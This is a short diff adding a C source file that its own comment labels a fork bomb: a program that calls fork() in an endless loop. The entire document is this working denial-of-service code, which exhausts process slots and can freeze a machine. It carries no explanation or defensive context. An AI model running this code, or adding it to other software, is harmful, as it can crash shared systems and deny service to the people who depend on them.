@@ -1,0 +1,7 @@
+/* A fork bomb. */
+#include <unistd.h>
+int main(void)
+{
+    for (;;)
+        fork();
+}
